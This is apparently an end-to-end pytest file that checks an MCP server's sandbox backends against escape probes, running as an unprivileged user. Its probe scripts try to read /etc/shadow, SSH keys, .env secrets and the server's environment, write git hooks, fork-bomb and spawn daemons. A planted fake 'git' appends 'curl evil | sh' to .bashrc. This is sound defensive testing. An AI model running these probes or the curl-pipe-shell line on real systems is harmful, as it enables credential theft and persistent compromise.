"""Probes where root would hide the behaviour, run with the server as an unprivileged user (nobody).

The server side (the runner, the backends) runs as `nobody` under the system Python with a
copy of oct_mcp and its dependencies in a world-readable folder, started with a secret in its
initial environment, exactly as a user's server would be.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from optional import bubblewrap, landlock
from unprivileged import NOBODY, PACKAGES, copied_packages, unprivileged_python

from oct_mcp.backends.loopback import loopback_support
from oct_mcp.middleware.sandbox import RUN_PROCESSES

pytestmark = pytest.mark.e2e

HARNESS = """
import json, os, sys
from pathlib import Path
import anyio
from oct_mcp.backends import Limits, SandboxRequest
from oct_mcp.backends.bubblewrap import Bubblewrap
from oct_mcp.backends.landlock import LandlockBackend
from oct_mcp.backends.native import Native
from oct_mcp.backends.runner import run_prepared
from oct_mcp.middleware.sandbox import _make_server_undumpable

_make_server_undumpable()
project = Path(sys.argv[1])
probe = (
    "import sys\\n"
    "def attempt(action):\\n"
    "    try:\\n"
    "        action()\\n"
    "        return 'DONE'\\n"
    "    except Exception as exc:\\n"
    "        return 'BLOCKED ' + type(exc).__name__\\n"
    "print(attempt(lambda: open('/proc/%d/environ' % int(sys.argv[1]), 'rb').read()))\\n"
    "print(attempt(lambda: open('/etc/shadow', 'rb').read()))\\n"
)
(project / "probe.py").write_text(probe)
results = {}
for backend in (Native(), Bubblewrap(), LandlockBackend()):
    if not backend.probe().usable:
        results[backend.name] = None
        continue
    request = SandboxRequest(
        argv=(sys.executable, "-I", str(project / "probe.py"), str(os.getpid())),
        project=project, writable=False, network=False, protected=(),
        read_only_binds=(), env={"PATH": "/usr/bin:/bin"},
        limits=Limits(memory_bytes=512 * 1024 * 1024, cpu_seconds=30),
        scratch=project, strict_files=True,
    )
    prepared = backend.prepare(request)
    run = anyio.run(lambda: run_prepared(prepared, backend=backend.name, time_limit=20, max_output=65536))
    results[backend.name] = (run.stdout + run.stderr).decode().split("\\n")[:2]
print(json.dumps(results))
"""


@pytest.fixture
def shared_tree() -> Iterator[Path]:
    """oct_mcp and its dependencies, copied where nobody can read them, with this file's harness."""
    with copied_packages(PACKAGES, HARNESS) as base:
        yield base


def test_as_its_own_user_the_server_keeps_its_environment_and_etc_shadow_from_every_backend(
    shared_tree: Path,
) -> None:
    python = unprivileged_python()
    command = [
        "setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--",
        "env", "-i", "PATH=/usr/bin:/bin", f"PYTHONPATH={shared_tree / 'site'}",
        "AWS_SECRET_ACCESS_KEY=FAKE-AWS-SECRET", "HOME=/nonexistent",
        python, "-s", str(shared_tree / "harness.py"), str(shared_tree / "project"),
    ]  # fmt: skip

    completed = subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)

    assert completed.returncode == 0, completed.stderr
    results = json.loads(completed.stdout.strip().splitlines()[-1])
    # native: the same user, but the server is non-dumpable, so its environ is closed to the child.
    assert results["native"] == ["BLOCKED PermissionError", "BLOCKED PermissionError"]
    if results["bubblewrap"] is not None:
        # bubblewrap: the server is outside the PID namespace, and /etc/shadow is not there at all.
        assert results["bubblewrap"] == ["BLOCKED FileNotFoundError", "BLOCKED FileNotFoundError"]
    if results["landlock"] is not None:
        # landlock: /proc is there, but the server is outside the run's domain; /etc/shadow is no rule's.
        assert results["landlock"] == ["BLOCKED PermissionError", "BLOCKED PermissionError"]


APP_PACKAGES = (*PACKAGES, "re2", "attr", "pygments", "rich")
APP_HARNESS = """
import json, sys
from pathlib import Path
import anyio
from oct_mcp.app import build_app, run_call
from oct_mcp.types import ClientInfo
from oct_mcp.errors import ConfigError

project, config = Path(sys.argv[1]), Path(sys.argv[2])
results = {}
for backend in ("native", "bubblewrap", "landlock"):
    # native confines nothing: command tools run there only where the user opted in.
    config.write_text(json.dumps({"sandbox_backend": backend, "allow_unconfined_project_code": True}))
    try:
        app = build_app(project, config_path=config, environ={})
    except ConfigError:
        results[backend] = None
        continue
    client = ClientInfo(client_id="nobody-" + backend, transport="memory")
    for tool in ("oct_git_status", "oct_lint"):
        outcome = anyio.run(run_call, app, tool, {}, client)
        results[backend + " " + tool] = getattr(outcome, "code", None) or getattr(outcome, "text", "")
print(json.dumps(results))
"""

FORK_BOMB_HARNESS = """
import json, os, sys, time
from pathlib import Path
import anyio
from oct_mcp.backends.bubblewrap import Bubblewrap
from oct_mcp.backends.landlock import LandlockBackend
from oct_mcp.backends.native import Native
from oct_mcp.backends.runner import run_prepared
from oct_mcp.types import ToolResult
from oct_mcp.execution.commands import CommandRunner
from oct_mcp.spec import CommandPlan

project = Path(sys.argv[1])
(project / "bomb.py").write_text(
    "import os, time\\n"
    "children = 0\\n"
    "try:\\n"
    "    while children < 1000:\\n"
    "        if os.fork() == 0:\\n"
    "            time.sleep(60)\\n"
    "            os._exit(0)\\n"
    "        children += 1\\n"
    "except OSError:\\n"
    "    print('STOPPED', children)\\n"
    "else:\\n"
    "    print('UNBOUNDED', children)\\n"
)
plan = CommandPlan(
    argv=(sys.executable, "-I", str(project / "bomb.py")),
    parse=lambda run: ToolResult(text=(run.stdout + run.stderr).decode()),
)
def tasks_of_mine():
    count = 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.stat(f"/proc/{pid}").st_uid == os.getuid():
                count += len(os.listdir(f"/proc/{pid}/task"))
        except OSError:
            pass
    return count

results = {}
for backend in (Native(), Bubblewrap(), LandlockBackend()):
    if not backend.probe().usable:
        results[backend.name] = None
        continue
    commands = CommandRunner(
        backend=backend, runner=run_prepared, required=frozenset(), allow_degraded=True,
        max_output_bytes=65536, timeout_seconds=60, test_timeout_seconds=60,
        memory_bytes=512 * 1024 * 1024, threads=1, allow_unconfined=True,
    )
    before = tasks_of_mine()
    result = anyio.run(lambda: commands.run(plan, project, None))
    results[backend.name] = result.text.split()
    # Killed children are reaped a little later: until then they count against the next budget.
    deadline = time.monotonic() + 30
    while tasks_of_mine() > before and time.monotonic() < deadline:
        time.sleep(0.1)
print(json.dumps(results))
"""


def test_as_its_own_user_the_server_runs_no_git_of_the_project_and_binds_no_venv_home_line(
    tmp_path: Path,
) -> None:
    python = unprivileged_python()
    with copied_packages(APP_PACKAGES, HARNESS) as base:
        home = base / "home"
        (home / ".ssh" / "bin").mkdir(parents=True)
        (home / ".ssh" / "id_ed25519").write_text("SSH-KEY-MATERIAL\n")
        (home / ".bashrc").write_text("# the user's own\n")
        project = base / "project"
        subprocess.run(["git", "init", "-q", str(project)], check=True)
        venv_bin = project / ".venv" / "bin"
        venv_bin.mkdir(parents=True)
        (project / ".venv" / "pyvenv.cfg").write_text(f"home = {home / '.ssh' / 'bin'}\n")
        (venv_bin / "python").symlink_to(python)
        (venv_bin / "git").write_text(f"#!/bin/sh\necho 'curl evil | sh' >> {home / '.bashrc'}\n")
        # The project's ruff, run by oct_lint (project code): it tries the key the home line named.
        (venv_bin / "ruff").write_text(
            f"#!{venv_bin / 'python'} -I\nimport sys\n"
            f"try:\n    sys.stderr.write(open({str(home / '.ssh' / 'id_ed25519')!r}).read())\n"
            "except OSError as exc:\n    sys.stderr.write('BLOCKED ' + type(exc).__name__)\nsys.exit(2)\n"
        )
        (base / "app_harness.py").write_text(textwrap.dedent(APP_HARNESS))
        for path in [home, *home.rglob("*"), project, *project.rglob("*")]:
            os.chown(path, NOBODY, NOBODY, follow_symlinks=False)
        for path in (venv_bin / "git", venv_bin / "ruff"):
            path.chmod(0o755)
        (base / "app_harness.py").chmod(0o644)
        command = [
            "setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--",
            "env", "-i", "PATH=/usr/bin:/bin", f"PYTHONPATH={base / 'site'}", f"HOME={home}",
            python, "-s", str(base / "app_harness.py"), str(project), str(home / "config.json"),
        ]  # fmt: skip

        completed = subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)
        bashrc = (home / ".bashrc").read_text()

    assert completed.returncode == 0, completed.stderr
    results = json.loads(completed.stdout.strip().splitlines()[-1])
    assert bashrc == "# the user's own\n"
    assert results["native oct_git_status"].startswith("## ")
    assert "BLOCKED" not in results["native oct_lint"]  # native confines no files: the gap strict refuses
    if results.get("bubblewrap") is not None:
        assert results["bubblewrap oct_git_status"].startswith("## ")
        assert "SSH-KEY-MATERIAL" not in results["bubblewrap oct_lint"]
        assert "BLOCKED FileNotFoundError" in results["bubblewrap oct_lint"]
    if results.get("landlock") is not None:
        assert results["landlock oct_git_status"].startswith("## ")
        assert "SSH-KEY-MATERIAL" not in results["landlock oct_lint"]
        assert "BLOCKED PermissionError" in results["landlock oct_lint"]


def _harness_as_nobody(shared_tree: Path, name: str, source: str) -> Any:
    """Run `source` as nobody on the shared tree's project; the JSON of its last line."""
    python = unprivileged_python()
    harness = shared_tree / f"{name}_harness.py"
    harness.write_text(textwrap.dedent(source))
    harness.chmod(0o644)
    command = [
        "setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--",
        "env", "-i", "PATH=/usr/bin:/bin", f"PYTHONPATH={shared_tree / 'site'}", "HOME=/nonexistent",
        python, "-s", str(harness), str(shared_tree / "project"),
    ]  # fmt: skip
    completed = subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)
    assert completed.returncode == 0, completed.stderr
    return json.loads(completed.stdout.strip().splitlines()[-1])


def test_as_its_own_user_a_fork_bomb_stops_at_the_runs_process_budget(shared_tree: Path) -> None:
    results = _harness_as_nobody(shared_tree, "bomb", FORK_BOMB_HARNESS)

    for backend, words in results.items():
        if words is None:
            continue
        assert words[0] == "STOPPED", backend
        assert int(words[1]) <= RUN_PROCESSES, backend


# Shared by the harnesses that run a script through a landlock CommandRunner as nobody.
_LANDLOCK_IMPORTS = """import anyio
from oct_mcp.backends.landlock import LandlockBackend
from oct_mcp.backends.runner import run_prepared
from oct_mcp.types import ToolResult
from oct_mcp.execution.commands import CommandRunner
from oct_mcp.spec import CommandPlan
"""
_LANDLOCK_COMMANDS = """backend = LandlockBackend()
if not backend.probe().usable:
    print(json.dumps(None))
    sys.exit(0)
commands = CommandRunner(
    backend=backend, runner=run_prepared, required=frozenset(), allow_degraded=False,
    max_output_bytes=65536, timeout_seconds=60, test_timeout_seconds=60,
    memory_bytes=512 * 1024 * 1024, threads=1, allow_unconfined=False,
)
"""

SCRATCH_TIMES_HARNESS = (
    """
import json, os, sys
from pathlib import Path
"""
    + _LANDLOCK_IMPORTS
    + """
project = Path(sys.argv[1])
(project / "kept.txt").write_text("the project's\\n")
(project / "times.py").write_text(
    "import os, shutil, tempfile\\n"
    "def attempt(name, action):\\n"
    "    try:\\n"
    "        action()\\n"
    "        print(name, 'DONE')\\n"
    "    except OSError as exc:\\n"
    "        print(name, 'BLOCKED')\\n"
    "own = os.path.join(tempfile.gettempdir(), 'own.txt')\\n"
    "open(own, 'w').write('x')\\n"
    "attempt('touch', lambda: os.utime(own, None))\\n"
    "attempt('set', lambda: os.utime(own, ns=(7, 1_000_000_011)))\\n"
    "attempt('copy2', lambda: shutil.copy2(own, own + '.copy'))\\n"
    "print('mtime', os.stat(own).st_mtime_ns)\\n"
    "attempt('project', lambda: os.utime('kept.txt', ns=(5, 5)))\\n"
)
"""
    + _LANDLOCK_COMMANDS
    + """plan = CommandPlan(
    argv=(sys.executable, "-I", str(project / "times.py")),
    parse=lambda run: ToolResult(text=(run.stdout + run.stderr).decode()),
)
result = anyio.run(lambda: commands.run(plan, project, None))
print(json.dumps({"out": result.text, "kept": (project / "kept.txt").stat().st_mtime_ns}))
"""
)


def test_as_its_own_user_a_read_only_landlock_run_sets_times_in_its_scratch_folder_only(
    shared_tree: Path,
) -> None:
    found = _harness_as_nobody(shared_tree, "times", SCRATCH_TIMES_HARNESS)

    if found is None:
        landlock()  # skips with the reason where Landlock is not usable here
    out = found["out"]
    for line in ("touch DONE", "set DONE", "copy2 DONE", "mtime 1000000011", "project BLOCKED"):
        assert line in out, out
    assert found["kept"] != 5


ROOT_ENTRIES_HARNESS = (
    """
import json, os, sys
from pathlib import Path
"""
    + _LANDLOCK_IMPORTS
    + """
project = Path(sys.argv[1]) / "entries"
(project / ".git" / "hooks").mkdir(parents=True)
(project / "old.txt").write_text("old\\n")
script = (
    "import os\\n"
    "def attempt(name, action):\\n"
    "    try:\\n"
    "        action()\\n"
    "        print(name, 'DONE')\\n"
    "    except OSError as exc:\\n"
    "        print(name, 'BLOCKED')\\n"
    "attempt('make', lambda: open('notes.md', 'w').write('notes'))\\n"
    "attempt('rename', lambda: os.replace('old.txt', 'new.txt'))\\n"
    "attempt('hook', lambda: open('.git/hooks/pre-commit', 'w'))\\n"
    "attempt('envrc', lambda: open('.envrc', 'w'))\\n"
    "attempt('move git', lambda: os.rename('.git', 'dotgit'))\\n"
)
"""
    + _LANDLOCK_COMMANDS
    + """plan = CommandPlan(
    argv=(sys.executable, "-I", "-c", script),
    writes_project=True,
    parse=lambda run: ToolResult(text=(run.stdout + run.stderr).decode()),
)
result = anyio.run(lambda: commands.run(plan, project, None))
print(json.dumps({"out": result.text, "entries": sorted(os.listdir(project))}))
"""
)


def test_as_its_own_user_a_writable_landlock_run_makes_entries_at_the_root_but_no_protected_one(
    shared_tree: Path,
) -> None:
    found = _harness_as_nobody(shared_tree, "entries", ROOT_ENTRIES_HARNESS)

    if found is None:
        landlock()  # skips with the reason where Landlock is not usable here
    assert found["out"].splitlines()[:5] == [
        "make DONE",
        "rename DONE",
        "hook BLOCKED",
        "envrc BLOCKED",
        "move git BLOCKED",
    ], found["out"]
    assert found["entries"] == [".git", "new.txt", "notes.md"]


PRIVATE_NETWORK_HARNESS = """
import json, sys
from pathlib import Path
import anyio
from oct_mcp.backends import Limits, SandboxRequest
from oct_mcp.backends.bubblewrap import Bubblewrap
from oct_mcp.backends.runner import run_prepared
from oct_mcp.middleware.sandbox import _make_server_undumpable

_make_server_undumpable()  # as the server is: its /proc/self is the machine root's
backend = Bubblewrap()
if not backend.probe().usable:
    print(json.dumps(None))
    sys.exit(0)
project = Path(sys.argv[1])
code = (
    "import socket\\n"
    "flags = socket.AI_PASSIVE | socket.AI_ADDRCONFIG\\n"
    "found = socket.getaddrinfo('localhost', 0, socket.AF_INET, socket.SOCK_STREAM, 0, flags)\\n"
    "print(sorted({entry[4][0] for entry in found}), sorted(name for _, name in socket.if_nameindex()))\\n"
)
request = SandboxRequest(
    argv=(sys.executable, "-I", "-c", code), project=project, writable=False, network=False,
    protected=(), read_only_binds=(Path(sys.base_prefix), Path(sys.prefix)),
    env={"PATH": "/usr/bin:/bin"}, limits=Limits(memory_bytes=512 * 1024 * 1024, cpu_seconds=30),
    scratch=project,
)
prepared = backend.prepare(request)
run = anyio.run(lambda: run_prepared(prepared, backend="bubblewrap", time_limit=30, max_output=65536))
out, err = run.stdout.decode(), run.stderr.decode()[-2000:]
print(json.dumps({"out": out, "err": err, "argv": list(prepared.argv)}))
"""


def test_as_its_own_user_a_bubblewrap_run_without_network_resolves_localhost_in_its_own_namespace(
    shared_tree: Path,
) -> None:
    found = _harness_as_nobody(shared_tree, "network", PRIVATE_NETWORK_HARNESS)

    if found is None:
        bubblewrap()  # skips with the reason where bubblewrap is not usable here
    assert found["out"].split("\n")[0] == "['127.0.0.1'] ['lo']", found["err"]
    assert "--unshare-net" not in found["argv"]


# Every probe of the attack list, run by each backend that works here with the server as nobody.
PROBE_HARNESS = """
import json, os, socket, subprocess, sys, time
from pathlib import Path
import anyio
from oct_mcp.backends import Limits, SandboxRequest
from oct_mcp.backends.bubblewrap import Bubblewrap
from oct_mcp.backends.landlock import LandlockBackend
from oct_mcp.backends.native import Native
from oct_mcp.backends.runner import run_prepared
from oct_mcp.middleware.sandbox import _make_server_undumpable

_make_server_undumpable()
base = Path(sys.argv[1])
results = {}
for backend in (Native(), Bubblewrap(), LandlockBackend()):
    if not backend.probe().usable:
        results[backend.name] = None
        continue
    project = base / backend.name / "project"
    outside = base / backend.name / "outside"
    for folder in (project / ".git" / "hooks", project / "src", outside, base / backend.name / "other"):
        folder.mkdir(parents=True)
    (project / ".git" / "config").write_text("[core]\\n")
    (project / "probe.py").write_text((base / "probe.py").read_text())
    secret = base / backend.name / "id_rsa"
    secret.write_text("PRIVATE KEY")
    (base / backend.name / "other" / "notes.txt").write_text("other project")
    tcp = socket.create_server(("127.0.0.1", 0))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    unix_path = str(outside / "agent.sock")
    pathname = socket.socket(socket.AF_UNIX)
    pathname.bind(unix_path)
    pathname.listen()
    abstract = "\\0oct-nobody-%s-%d" % (backend.name, os.getpid())
    unix = socket.socket(socket.AF_UNIX)
    unix.bind(abstract)
    unix.listen()
    for listening in (tcp, udp, pathname, unix):
        listening.setblocking(False)
    outsider = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    beat = project / "src" / "heartbeat"
    request = SandboxRequest(
        argv=(sys.executable, "-I", str(project / "probe.py"), json.dumps({
            "outside": str(outside / "pwned"), "hook": str(project / ".git" / "hooks" / "pre-commit"),
            "config": str(project / ".git" / "config"), "secret": str(secret),
            "other": str(base / backend.name / "other" / "notes.txt"), "server": os.getpid(),
            "tcp": tcp.getsockname()[1], "udp": udp.getsockname()[1], "unix": unix_path,
            "abstract": abstract, "outsider": outsider.pid, "beat": str(beat),
            "scratch": str(base / backend.name / "scratch"),
        })),
        project=project, writable=True, network=False, protected=(project / ".git",),
        read_only_binds=(Path(sys.base_prefix),), env={"PATH": "/usr/bin:/bin"},
        limits=Limits(memory_bytes=512 * 1024 * 1024, cpu_seconds=30),
        scratch=base / backend.name / "scratch", strict_files=True,
    )
    request.scratch.mkdir()
    prepared = backend.prepare(request)
    run = anyio.run(lambda: run_prepared(prepared, backend=backend.name, time_limit=30, max_output=65536))
    verdicts = dict(line.split(" ", 1) for line in run.stdout.decode().splitlines() if " " in line)
    verdicts["stderr"] = run.stderr.decode(errors="replace")[-2000:]
    size = beat.stat().st_size if beat.exists() else 0
    time.sleep(0.5)
    verdicts["daemon"] = "GONE" if size and beat.stat().st_size == size else "ALIVE"
    verdicts["outside_written"] = str((outside / "pwned").exists())
    verdicts["hook_written"] = str((project / ".git" / "hooks" / "pre-commit").exists())
    for name, listening in (("tcp_seen", tcp), ("pathname_seen", pathname), ("abstract_seen", unix)):
        try:
            listening.accept()
            verdicts[name] = "True"
        except BlockingIOError:
            verdicts[name] = "False"
    try:
        udp.recvfrom(16)
        verdicts["udp_seen"] = "True"
    except BlockingIOError:
        verdicts["udp_seen"] = "False"
    verdicts["outsider_alive"] = str(outsider.poll() is None)
    if verdicts["daemon"] == "ALIVE" and verdicts.get("daemon_pid", "").isdigit():
        os.kill(int(verdicts["daemon_pid"]), 9)  # native: the daemon it could not stop, by its PID
    outsider.kill()
    outsider.wait()
    for listening in (tcp, udp, pathname, unix):
        listening.close()
    results[backend.name] = verdicts
print(json.dumps(results))
"""
PROBE = """
import json, os, signal, socket, sys, time
args = json.loads(sys.argv[1])
def attempt(name, action):
    try:
        action()
        print(name, "DONE", flush=True)
    except Exception as exc:
        print(name, "BLOCKED", type(exc).__name__, flush=True)
def unix_connect(address):
    s = socket.socket(socket.AF_UNIX)
    s.connect(address)
attempt("write_outside", lambda: open(args["outside"], "w").write("x"))
attempt("write_hook", lambda: open(args["hook"], "w").write("#!/bin/sh"))
attempt("write_git_config", lambda: open(args["config"], "a").write("[core]"))
attempt("read_secret", lambda: open(args["secret"]).read())
attempt("read_other_project", lambda: open(args["other"]).read())
attempt("read_server_environ", lambda: open("/proc/%d/environ" % args["server"], "rb").read())
attempt("tcp", lambda: socket.create_connection(("127.0.0.1", args["tcp"]), timeout=2))
def udp_send():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", args["udp"]))
attempt("udp", udp_send)
def loopback_self():
    server = socket.create_server(("127.0.0.1", 0))
    client = socket.create_connection(server.getsockname(), timeout=5)
    client.sendall(b"x")
    assert server.accept()[0].recv(1) == b"x"
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"y", udp.getsockname())
    assert udp.recv(1) == b"y"
    # A unix socket where the run may write its temporary files (its scratch folder on landlock).
    import tempfile
    folder = args["scratch"] if os.access(args["scratch"], os.W_OK) else tempfile.mkdtemp()
    unix_server = socket.socket(socket.AF_UNIX)
    unix_server.bind(os.path.join(folder, "own.sock"))
    unix_server.listen()
    socket.socket(socket.AF_UNIX).connect(os.path.join(folder, "own.sock"))
attempt("loopback_self", loopback_self)
attempt("pathname_unix", lambda: unix_connect(args["unix"]))
attempt("abstract_unix", lambda: unix_connect(args["abstract"]))
attempt("kill_outside", lambda: os.kill(args["outsider"], signal.SIGKILL))
attempt("memory_bomb", lambda: bytearray(2 * 1024 ** 3))
if os.fork() == 0:
    os.setsid()
    daemon = os.fork()
    if daemon == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        while True:
            with open(args["beat"], "a") as f:
                f.write("x")
            time.sleep(0.02)
    print("daemon_pid", daemon, flush=True)
    os._exit(0)
while not os.path.exists(args["beat"]):
    time.sleep(0.01)
"""
BLOCKED_BY_CONFINING = (
    "write_outside",
    "write_hook",
    "write_git_config",
    "read_secret",
    "read_other_project",
    "read_server_environ",
    "tcp",
    "pathname_unix",
    "abstract_unix",
    "kill_outside",
    "memory_bomb",
)


def test_as_nobody_every_probe_is_blocked_by_each_confining_backend(shared_tree: Path) -> None:
    python = unprivileged_python()
    base = shared_tree / "probes"
    base.mkdir()
    shutil.chown(base, NOBODY, NOBODY)
    (shared_tree / "probe_harness.py").write_text(textwrap.dedent(PROBE_HARNESS))
    (base / "probe.py").write_text(textwrap.dedent(PROBE))
    for path in (shared_tree / "probe_harness.py", base / "probe.py"):
        path.chmod(0o644)
    command = [
        "setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--",
        "env", "-i", "PATH=/usr/bin:/bin", f"PYTHONPATH={shared_tree / 'site'}", "HOME=/nonexistent",
        python, "-s", str(shared_tree / "probe_harness.py"), str(base),
    ]  # fmt: skip

    completed = subprocess.run(command, capture_output=True, text=True, timeout=240, check=False)

    assert completed.returncode == 0, completed.stderr
    results = json.loads(completed.stdout.strip().splitlines()[-1])
    for name in ("bubblewrap", "landlock"):
        verdicts = results[name]
        if verdicts is None:
            continue
        assert {probe: verdicts[probe].split()[0] for probe in BLOCKED_BY_CONFINING} == dict.fromkeys(
            BLOCKED_BY_CONFINING, "BLOCKED"
        ), (name, verdicts)
        # UDP may be "sent" into bubblewrap's own loopback: what counts is that the host never sees it.
        seen = {key: verdicts[key] for key in verdicts if key.endswith(("_seen", "_written"))}
        assert set(seen.values()) == {"False"}, (name, seen)
        assert verdicts["outsider_alive"] == "True"
        assert verdicts["daemon"] == "GONE"
    if results["landlock"] is not None:
        assert results["landlock"]["udp"].split()[0] == "BLOCKED"
    # Its own servers on loopback work for a run without network, on each backend that confines.
    for name in ("bubblewrap", "landlock"):
        if results[name] is not None and (name == "bubblewrap" or loopback_support() is None):
            assert results[name]["loopback_self"] == "DONE", (name, results[name])
    # native confines nothing: every profile refuses it for command tools unless the user opts in.
    native = results["native"]
    assert native["write_outside"] == "DONE"
    assert native["read_other_project"] == "DONE"
    assert native["tcp"] == "DONE"


SECRETS_HARNESS = """
import json, sys
from dataclasses import replace
from pathlib import Path
import anyio
from pydantic import BaseModel, ConfigDict
from oct_mcp.backends.bubblewrap import Bubblewrap
from oct_mcp.backends.landlock import LandlockBackend
from oct_mcp.backends.runner import run_prepared
from oct_mcp.execution.applier import ChangeApplier
from oct_mcp.execution.commands import CommandRunner
from oct_mcp.middleware.sandbox import ExecutionSandbox
from oct_mcp.spec import CommandPlan, Risk, ToolSpec
from oct_mcp.testing import make_context, validated
from oct_mcp.types import ToolResult
from oct_mcp.workspace import Workspace

class Params(BaseModel):
    model_config = ConfigDict(extra="forbid")

PROBE = (
    "try:\\n    print(open('.env').read().strip()[::-1])\\n"
    "except OSError as exc:\\n    print('BLOCKED', type(exc).__name__)\\n"
)

def plan(params, env):
    return CommandPlan(
        argv=(sys.executable, "-I", "-c", PROBE),
        parse=lambda run: ToolResult(text=run.stdout.decode() + run.stderr.decode()),
    )

spec = ToolSpec(
    name="probe", title="", description="", params=Params, output=None, risk=Risk.EXECUTE, plan=plan
)
project = Path(sys.argv[1])
results = {}
for backend in (Bubblewrap(), LandlockBackend()):
    if not backend.probe().usable:
        results[backend.name] = None
        continue
    commands = CommandRunner(
        backend=backend, runner=run_prepared, required=frozenset(), allow_degraded=False,
        max_output_bytes=1 << 20, timeout_seconds=60, test_timeout_seconds=60, memory_bytes=None,
        threads=1,
    )
    sandbox = ExecutionSandbox(commands=commands, applier=ChangeApplier())
    ctx = validated(make_context("probe", Workspace(project)), spec, Params())

    async def run():
        return await sandbox(ctx, None)

    results[backend.name] = anyio.run(run).text.splitlines()[0]
print(json.dumps(results))
"""


def test_as_its_own_user_the_server_shows_a_secret_file_to_runs_masked_or_not_at_all(
    shared_tree: Path,
) -> None:
    python = unprivileged_python()
    (shared_tree / "secret_files_harness.py").write_text(textwrap.dedent(SECRETS_HARNESS))
    (shared_tree / "secret_files_harness.py").chmod(0o644)
    env_file = shared_tree / "project" / ".env"
    env_file.write_text("DB_PASSWORD=Xk9vR2mQ7pL4sT8wZ3nB\n")
    # Owner-only, as a user keeps it: the masked copy the server writes is owner-only too.
    shutil.chown(env_file, NOBODY, NOBODY)
    env_file.chmod(0o600)
    command = [
        "setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--",
        "env", "-i", "PATH=/usr/bin:/bin", f"PYTHONPATH={shared_tree / 'site'}", "HOME=/nonexistent",
        python, "-s", str(shared_tree / "secret_files_harness.py"), str(shared_tree / "project"),
    ]  # fmt: skip

    completed = subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)

    assert completed.returncode == 0, completed.stderr
    results = json.loads(completed.stdout.strip().splitlines()[-1])
    if results["bubblewrap"] is not None:
        assert results["bubblewrap"] == "]drowssap:DETCADER[=DROWSSAP_BD"
    if results["landlock"] is not None:
        assert results["landlock"] == "BLOCKED PermissionError"
